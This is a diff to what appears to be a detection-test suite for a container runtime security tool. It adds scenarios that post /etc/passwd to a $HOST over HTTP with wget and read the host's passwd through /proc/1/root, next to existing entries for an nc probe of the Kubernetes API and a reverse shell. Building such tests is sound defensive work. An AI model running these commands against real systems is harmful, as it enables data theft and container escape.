@@ -192,6 +192,10 @@ export const ATTACKS: readonly Scenario[] = [
   { name: "poke the Kubernetes API with nc", technique: "T1613", pod: "web", expect: "Kubernetes API Server Contacted By Shell Tool",
     cmd: "nc -w 1 10.96.0.1 443 </dev/null 2>/dev/null; true" },
   { name: "hide a file in /dev", technique: "T1564.001", pod: "web", expect: "File Created Below /dev", cmd: "echo x > /dev/.cache; rm -f /dev/.cache" },
+  { name: "upload /etc/passwd over HTTP", technique: "T1048.003", pod: "web", expect: "Data Uploaded With Command-Line HTTP Client",
+    cmd: "/applets/wget -q -T 2 --post-file=/etc/passwd -O /dev/null http://$HOST:8080/ 2>/dev/null; true" },
+  { name: "read a file through /proc/1/root", technique: "T1611", pod: "web", expect: "Other Process Root Accessed Through Procfs",
+    cmd: "/bin/cat /proc/1/root/etc/passwd >/dev/null" },
   // ---------------------------------------------------------------- lateral movement and C2
   { name: "reverse shell: socket dup2'd onto stdio", technique: "T1059.004", pod: "web", expect: "Reverse Shell Socket Redirected To Standard Streams",
     cmd: `${T}/vigil-attack revshell $HOST 4444` },
